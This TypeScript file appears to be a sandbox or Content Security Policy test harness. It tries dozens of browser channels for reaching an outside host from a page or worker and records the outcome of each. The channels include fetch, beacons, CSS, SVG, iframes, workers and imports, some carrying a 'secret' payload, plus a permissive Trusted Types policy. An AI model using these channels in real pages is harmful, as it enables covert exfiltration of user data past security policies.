/** What became of an attempt, as far as the page itself can tell. The server's log has the last word. */
type Outcome = 'went through' | 'threw' | 'no sign';

/**
 * Tries every way out of a page that we know of; each attempt asks for a path of its own on `outside`. Runs in the page, so
 * it uses nothing from around it.
 */
export async function pageEscapes(outside: string): Promise<Record<string, Outcome>> {
  // TypeScript has no types for Trusted Types yet; what these return stands wherever the policy wants more than text.
  interface Pass {
    createHTML(html: string): string;
    createScript(code: string): string;
    createScriptURL(url: string): string;
  }
  const { trustedTypes } = globalThis as { trustedTypes?: { createPolicy(name: string, rules: Pass): Pass } };
  // Hostile code that got this far could make a policy that lets everything pass, so the attempts do as well.
  const same = (text: string) => text;
  const pass = trustedTypes?.createPolicy('escape', { createHTML: same, createScript: same, createScriptURL: same });
  const scriptUrl = (url: string) => pass?.createScriptURL(url) ?? url;

  const outcomes: Record<string, Outcome> = {};
  async function attempt(way: string, act: (url: string) => unknown): Promise<void> {
    try {
      outcomes[way] = (await act(`${outside}/${way}`)) === true ? 'went through' : 'no sign';
    } catch {
      outcomes[way] = 'threw';
    }
  }
  function append(tag: string, attributes: Record<string, string>, parent: Element = document.body): Element {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    parent.append(element);
    return element;
  }
  const opened = (target: EventTarget) =>
    new Promise<boolean>((resolve) => {
      target.addEventListener('open', () => resolve(true));
      target.addEventListener('message', () => resolve(true));
      target.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(false), 700);
    });

  await attempt('fetch', async (url) => (await fetch(url)).ok);
  await attempt('fetch-no-cors', async (url) =>
    Boolean(await fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })),
  );
  await attempt('fetch-keepalive', async (url) => Boolean(await fetch(url, { mode: 'no-cors', keepalive: true })));
  await attempt('xhr', (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
    return request.status > 0;
  });
  await attempt('websocket', (url) => opened(new WebSocket(url.replace('http', 'ws'))));
  await attempt('event-source', (url) => opened(new EventSource(url)));
  await attempt('beacon', (url) => {
    navigator.sendBeacon(url, 'secret');
  });
  await attempt('image', (url) => {
    new Image().src = url;
  });
  await attempt('image-srcset', (url) => void append('img', { srcset: `${url} 2x`, alt: '' }));
  await attempt('video', (url) => void append('video', { src: url, preload: 'auto' }));
  await attempt('object', (url) => void append('object', { data: scriptUrl(url) }));
  await attempt('style', (url) => void append('div', { style: `background: url(${url}); width: 9px; height: 9px` }));
  await attempt('style-import', (url) => {
    append('style', {}).textContent = `@import url(${url});`;
  });
  await attempt('font', async (url) => Boolean(await new FontFace('escape', `url(${url})`).load()));
  await attempt('stylesheet', (url) => void append('link', { rel: 'stylesheet', href: url }, document.head));
  await attempt('icon', (url) => void append('link', { rel: 'icon', href: url }, document.head));
  await attempt('prefetch', (url) => void append('link', { rel: 'prefetch', href: url }, document.head));
  await attempt('preload', (url) => void append('link', { rel: 'preload', as: 'script', href: url }, document.head));
  await attempt('modulepreload', (url) => void append('link', { rel: 'modulepreload', href: url }, document.head));
  await attempt('import', async (url) => Boolean(await import(url)));
  await attempt('script', (url) => {
    const script = document.createElement('script');
    script.src = scriptUrl(url);
    document.body.append(script);
  });
  await attempt('inline-script', (url) => {
    const script = document.createElement('script');
    const code = `fetch(${JSON.stringify(url)}); window.inlineScriptRan = true`;
    script.text = pass?.createScript(code) ?? code;
    document.body.append(script);
    return 'inlineScriptRan' in window;
  });
  await attempt('eval', () => {
    const compile = Function as unknown as (code: string) => () => unknown;
    return compile(pass?.createScript('return true') ?? 'return true')();
  });
  await attempt('iframe', (url) => void append('iframe', { src: url }));
  await attempt('iframe-srcdoc', (url) => {
    const frame = document.createElement('iframe');
    const html = `<img src="${url}"><script>fetch("${url}")</script>`;
    frame.srcdoc = pass?.createHTML(html) ?? html;
    document.body.append(frame);
  });
  await attempt('iframe-blank', async (url) => {
    const frame = append('iframe', {}) as HTMLIFrameElement;
    const inside = frame.contentWindow as (Window & typeof globalThis) | null;
    return (await inside?.fetch(url))?.ok;
  });
  await attempt('form', (url) => {
    append('iframe', { name: 'form-target' });
    const form = append('form', { action: url, method: 'post', target: 'form-target' }) as HTMLFormElement;
    form.submit();
  });
  await attempt('worker-url', (url) => {
    new Worker(scriptUrl(url));
  });
  await attempt('worker-own-file', async () => {
    // A worker loaded from an address of our own would not stand under the page's policy at all.
    const worker = new Worker(scriptUrl(new URL('./courier.js', location.href).href));
    return new Promise((resolve) => {
      worker.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(true), 700);
    });
  });
  await attempt('worker-blob', async (url) => {
    const code = `fetch(${JSON.stringify(url)}).then(() => postMessage(1), (e) => { setTimeout(() => { throw e; }); });`;
    const blob = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    return opened(new Worker(scriptUrl(blob)));
  });
  await attempt('shared-worker', (url) => {
    new SharedWorker(scriptUrl(url));
  });
  await attempt('service-worker', async (url) => Boolean(await navigator.serviceWorker.register(scriptUrl(url))));
  await attempt('service-worker-own-file', async () =>
    Boolean(await navigator.serviceWorker.register(scriptUrl(new URL('./courier.js', location.href).href))),
  );
  await attempt('websocket-stream', async (url) => {
    const { WebSocketStream: Stream } = globalThis as {
      WebSocketStream?: new (url: string) => { opened: Promise<unknown> };
    };
    return Stream && Boolean(await new Stream(url.replace('http', 'ws')).opened);
  });
  await attempt('web-transport', async (url) => {
    const transport = new WebTransport(url.replace('http:', 'https:'));
    return Boolean(await Promise.race([transport.ready.then(() => true), new Promise((end) => setTimeout(end, 500))]));
  });
  await attempt('fetch-later', (url) => {
    const { fetchLater } = globalThis as { fetchLater?: (url: string, options: object) => void };
    fetchLater?.(url, { activateAfter: 0 });
  });
  await attempt('cache-add', async (url) => (await caches.open('escape')).add(url));
  await attempt('image-picture', (url) => {
    append('source', { srcset: url }, append('picture', {})).after(new Image());
  });
  await attempt('image-input', (url) => void append('input', { type: 'image', src: url }));
  await attempt('image-crossorigin', (url) => void append('img', { crossorigin: 'anonymous', src: url, alt: '' }));
  await attempt('video-poster', (url) => void append('video', { poster: url }));
  await attempt('audio', (url) => void new Audio(url).play().catch(() => undefined));
  await attempt('track', (url) => {
    const video = append('video', { src: 'data:video/mp4;base64,AAAA' });
    append('track', { src: url, default: '', kind: 'captions' }, video);
  });
  await attempt('embed', (url) => void append('embed', { src: scriptUrl(url) }));
  await attempt('body-background', (url) => document.body.setAttribute('background', url));
  await attempt('style-cursor', (url) => void append('div', { style: `cursor: url(${url}), auto` }));
  await attempt('style-mask', (url) => void append('div', { style: `mask: url(${url}); width: 9px; height: 9px` }));
  await attempt(
    'style-filter',
    (url) => void append('div', { style: `filter: url(${url}#a); width: 9px; height: 9px` }),
  );
  await attempt('style-content', (url) => {
    append('style', {}).textContent = `body::after { content: url(${url}) }`;
  });
  await attempt('style-image-set', (url) => {
    append('div', { style: `background: image-set(url(${url}) 1x); width: 9px; height: 9px` });
  });
  await attempt('style-font-face', (url) => {
    append('style', {}).textContent = `@font-face { font-family: Out; src: url(${url}) } p.out { font-family: Out }`;
    append('p', { class: 'out' }).textContent = 'out';
  });
  await attempt('adopted-style', (url) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`body { background-image: url(${url}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  });
  const svg = 'http://www.w3.org/2000/svg';
  const appendSvg = (tag: string, url: string): void => {
    const root = document.createElementNS(svg, 'svg');
    const child = document.createElementNS(svg, tag);
    child.setAttribute('href', url);
    root.append(child);
    document.body.append(root);
  };
  await attempt('svg-image', (url) => appendSvg('image', url));
  await attempt('svg-use', (url) => appendSvg('use', `${url}#a`));
  await attempt('svg-fe-image', (url) => appendSvg('feImage', url));
  await attempt('svg-blob', (url) => {
    const code = `<svg xmlns="${svg}" width="9" height="9"><image href="${url}" width="9" height="9"/><script>fetch("${url}")</script></svg>`;
    append('img', { src: URL.createObjectURL(new Blob([code], { type: 'image/svg+xml' })), alt: '' });
  });
  await attempt('ping', (url) => {
    const link = append('a', { href: '#nowhere', ping: url }) as HTMLAnchorElement;
    link.click();
  });
  await attempt('attribution', (url) => void append('img', { attributionsrc: url, src: 'data:,', alt: '' }));
  await attempt('manifest', (url) => void append('link', { rel: 'manifest', href: url }, document.head));
  await attempt('alternate-style', (url) => {
    append('link', { rel: 'alternate stylesheet', title: 'out', href: url }, document.head);
  });
  await attempt('touch-icon', (url) => void append('link', { rel: 'apple-touch-icon', href: url }, document.head));
  await attempt('preload-fetch', (url) => {
    append('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: url }, document.head);
  });
  await attempt('preload-image', (url) => {
    append('link', { rel: 'preload', as: 'image', href: url }, document.head);
  });
  await attempt('speculation-rules', (url) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    const text = JSON.stringify({
      prefetch: [{ source: 'list', urls: [url] }],
      prerender: [{ source: 'list', urls: [url] }],
    });
    rules.text = pass?.createScript(text) ?? text;
    document.head.append(rules);
  });
  await attempt('base', (url) => {
    append('base', { href: `${url}/` }, document.head);
    new Image().src = 'by-base';
  });
  await attempt('import-json', async (url) => Boolean(await import(url, { with: { type: 'json' } })));
  await attempt('import-blob', async (url) => {
    const code = `import ${JSON.stringify(url)}; export default 1`;
    return Boolean(await import(URL.createObjectURL(new Blob([code], { type: 'text/javascript' }))));
  });
  await attempt('import-data', async (url) =>
    Boolean(await import(`data:text/javascript,import ${JSON.stringify(url)}`)),
  );
  await attempt('audio-worklet', async (url) => {
    await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule(url);
    return true;
  });
  await attempt('paint-worklet', async (url) => {
    const { paintWorklet } = CSS as unknown as { paintWorklet?: { addModule(url: string): Promise<void> } };
    await paintWorklet?.addModule(url);
  });
  await attempt('xslt', (url) => {
    const parse = (xml: string) => new DOMParser().parseFromString(pass?.createHTML(xml) ?? xml, 'text/xml');
    const sheet = parse(
      `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:import href="${url}"/></xsl:stylesheet>`,
    );
    new XSLTProcessor().importStylesheet(sheet);
  });
  await attempt('iframe-data', (url) => {
    append('iframe', { src: `data:text/html,<img src="${url}"><script>fetch("${url}")</script>` });
  });
  await attempt('iframe-blob', (url) => {
    const html = `<img src="${url}"><script>fetch("${url}")</script>`;
    append('iframe', { src: URL.createObjectURL(new Blob([html], { type: 'text/html' })) });
  });
  await attempt('iframe-own-file', async (url) => {
    // A file of ours without a policy of its own, and then through it.
    const frame = append('iframe', { src: './favicon.svg' }) as HTMLIFrameElement;
    await new Promise((resolve) => setTimeout(resolve, 400));
    const inside = frame.contentWindow as (Window & typeof globalThis) | null;
    return (await inside?.fetch(url))?.ok;
  });
  await attempt('fedcm', async (url) => {
    const identity = { providers: [{ configURL: url, clientId: 'out' }] };
    await Promise.race([
      navigator.credentials.get({ identity } as unknown as CredentialRequestOptions),
      new Promise((resolve) => setTimeout(resolve, 500)),
    ]);
  });
  return outcomes;
}

/** The same for a worker. */
export async function workerEscapes([outside, folder]: readonly [outside: string, folder: string]): Promise<
  Record<string, Outcome>
> {
  const outcomes: Record<string, Outcome> = {};
  async function attempt(way: string, act: (url: string) => unknown): Promise<void> {
    try {
      outcomes[way] = (await act(`${outside}/${way}`)) === true ? 'went through' : 'no sign';
    } catch {
      outcomes[way] = 'threw';
    }
  }
  const opened = (target: EventTarget) =>
    new Promise<boolean>((resolve) => {
      target.addEventListener('open', () => resolve(true));
      target.addEventListener('message', () => resolve(true));
      target.addEventListener('error', () => resolve(false));
      setTimeout(() => resolve(false), 700);
    });
  interface ScriptUrlPolicy {
    createScriptURL(url: string): string;
  }
  const { trustedTypes } = globalThis as {
    trustedTypes?: { createPolicy(name: string, rules: ScriptUrlPolicy): ScriptUrlPolicy };
  };
  const pass = trustedTypes?.createPolicy('escape', { createScriptURL: (url) => url });
  const scriptUrl = (url: string) => pass?.createScriptURL(url) ?? url;

  await attempt('fetch', async (url) => (await fetch(url)).ok);
  await attempt('fetch-no-cors', async (url) =>
    Boolean(await fetch(url, { mode: 'no-cors', method: 'POST', body: 'secret' })),
  );
  await attempt('xhr', (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url, false);
    request.send();
    return request.status > 0;
  });
  await attempt('websocket', (url) => opened(new WebSocket(url.replace('http', 'ws'))));
  await attempt('event-source', (url) => opened(new EventSource(url)));
  await attempt('import', async (url) => Boolean(await import(url)));
  await attempt('eval', () => {
    const compile = Function as unknown as (code: string) => () => unknown;
    return compile('return true')();
  });
  await attempt('fetch-keepalive', async (url) => Boolean(await fetch(url, { mode: 'no-cors', keepalive: true })));
  await attempt('web-transport', async (url) => {
    const transport = new WebTransport(url.replace('http:', 'https:'));
    return Boolean(await Promise.race([transport.ready.then(() => true), new Promise((end) => setTimeout(end, 500))]));
  });
  await attempt('import-scripts', (url) => {
    (globalThis as unknown as { importScripts(url: string): void }).importScripts(scriptUrl(url));
    return true;
  });
  await attempt('cache-add', async (url) => (await caches.open('escape')).add(url));
  await attempt('font', async (url) => Boolean(await new FontFace('escape', `url(${url})`).load()));
  await attempt(
    'worker-own-file',
    (_url) =>
      // It would stand under no policy; opened when it is started.
      new Promise((resolve) => {
        const worker = new Worker(scriptUrl(`${folder}courier.js`));
        worker.addEventListener('error', () => resolve(false));
        setTimeout(() => resolve(true), 700);
      }),
  );
  await attempt('worker-url', (url) => opened(new Worker(scriptUrl(url))));
  await attempt('worker-blob', (url) => {
    const code = `fetch(${JSON.stringify(url)}).then(() => postMessage(1), (e) => { setTimeout(() => { throw e; }); });`;
    return opened(new Worker(scriptUrl(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))));
  });
  return outcomes;
}
